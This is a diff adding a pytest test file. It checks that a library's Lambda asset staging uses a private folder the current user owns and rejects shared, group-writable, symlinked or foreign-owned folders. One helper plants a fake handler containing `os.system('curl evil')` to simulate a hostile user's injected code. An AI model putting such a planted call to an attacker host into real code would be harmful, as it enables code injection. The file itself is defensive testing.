@@ -1,0 +1,112 @@
+"""Where the snapshot functions' code is staged: a folder only this user can write to.
+
+The staged folder is reused by later synths and goes into the functions as it is found, so a
+folder that another user made (before: ``<tmp>/kmskit-lambda-assets``, shared by every user)
+could put their code into this user's functions, or, made 0700 by them, stop this user's synth
+(``EACCES: permission denied, scandir``).
+"""
+
+from __future__ import annotations
+
+import hashlib
+import os
+import shutil
+import stat
+import tempfile
+from pathlib import Path
+
+import pytest
+
+from constructs_lib.snapshot_replication import ASSET_ROOT_PREFIX, PACKAGE, _stage_asset
+
+pytestmark = pytest.mark.skipif(os.name != "posix", reason="the uid-named folder is POSIX only")
+
+
+@pytest.fixture
+def temporary(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """tempfile.gettempdir() for the test: a private folder of its own."""
+    tmp_path.chmod(0o700)
+    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
+    return tmp_path
+
+
+def _contents(folder: Path) -> dict[str, str]:
+    return {
+        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
+        for p in sorted(folder.rglob("*"))
+        if p.is_file()
+    }
+
+
+def test_assets_are_staged_in_a_private_folder_of_this_user_and_reused(temporary: Path) -> None:
+    staged = Path(_stage_asset())
+    root = temporary / f"{ASSET_ROOT_PREFIX}-{os.getuid()}"
+    assert staged.parent == root
+    assert staged.name.startswith(f"{PACKAGE}-")
+    status = root.stat()
+    assert status.st_uid == os.getuid()
+    assert stat.S_IMODE(status.st_mode) == 0o700
+    assert _stage_asset() == str(staged)
+
+
+def _plant(root: Path, honest: Path) -> Path:
+    """A folder of the staged folder's name under ``root``, holding someone else's handler."""
+    planted = root / honest.name
+    (planted / PACKAGE).mkdir(parents=True)
+    (planted / PACKAGE / "handler.py").write_text("import os; os.system('curl evil')\n")
+    return planted
+
+
+@pytest.mark.parametrize("mode", [0o777, 0o770, 0o757], ids=oct)
+def test_a_folder_that_others_can_write_is_not_used(temporary: Path, mode: int) -> None:
+    honest = Path(_stage_asset())
+    expected = _contents(honest)
+    root = temporary / "elsewhere"
+    root.mkdir()
+    honest.parent.rename(root)
+    shared = temporary / f"{ASSET_ROOT_PREFIX}-{os.getuid()}"
+    shared.mkdir(mode=0o700)
+    shared.chmod(mode)
+    planted = _plant(shared, honest)
+    with pytest.warns(RuntimeWarning, match=r"is writable by group or others") as caught:
+        staged = Path(_stage_asset())
+    assert str(shared) in str(caught[0].message)
+    assert staged != planted
+    assert not staged.is_relative_to(shared)
+    assert _contents(staged) == expected  # the same files, so the same asset hash
+
+
+def test_a_folder_planted_where_every_user_used_to_stage_is_not_used(temporary: Path) -> None:
+    honest = Path(_stage_asset())
+    shutil.rmtree(honest.parent)
+    shared = temporary / ASSET_ROOT_PREFIX
+    shared.mkdir(mode=0o777)
+    shared.chmod(0o777)
+    planted = _plant(shared, honest)
+    staged = Path(_stage_asset())
+    assert staged != planted
+    assert (staged / PACKAGE / "handler.py").read_bytes() != (
+        planted / PACKAGE / "handler.py"
+    ).read_bytes()
+
+
+def test_a_symlink_in_its_place_is_not_followed(temporary: Path) -> None:
+    honest = Path(_stage_asset())
+    target = temporary / "target"
+    honest.parent.rename(target)
+    (temporary / f"{ASSET_ROOT_PREFIX}-{os.getuid()}").symlink_to(target)
+    with pytest.warns(RuntimeWarning, match=r"is not a directory"):
+        staged = Path(_stage_asset())
+    assert not staged.is_relative_to(target)
+
+
+@pytest.mark.skipif(os.getuid() != 0, reason="making a folder of another user needs root")
+def test_another_users_folder_is_not_used(temporary: Path) -> None:
+    honest = Path(_stage_asset())
+    expected = _contents(honest)
+    root = honest.parent
+    os.chown(root, 65534, -1)  # nobody
+    with pytest.warns(RuntimeWarning, match=r"belongs to user id 65534"):
+        staged = Path(_stage_asset())
+    assert staged.parent != root
+    assert _contents(staged) == expected
